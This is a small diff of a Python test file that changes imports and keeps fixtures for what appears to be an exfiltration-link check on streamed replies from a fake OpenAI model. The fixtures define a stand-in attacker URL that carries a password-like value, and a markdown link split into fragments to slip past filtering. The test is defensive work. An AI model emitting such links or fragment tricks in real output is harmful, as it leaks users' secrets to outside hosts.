@@ -4,13 +4,9 @@ from __future__ import annotations
 
 from pathlib import Path
 
-import pytest
-
 from channels.message import OutboundMessage
 from tests.fakes.openai.script import Call, Text, ToolCalls
-from tests.gateway.scheduling.test_confirmations import ALICE, BOB, scene
-
-pytestmark = pytest.mark.anyio
+from tests.gateway.scheduling.confirming import ALICE, BOB, scene
 
 EVIL = "https://evil.example/collect?d=hunter2"
 ANSWER = ("See [the do", "cs](https://evil.exa", "mple/collect?d=hun", "ter2) or ", EVIL, ".")
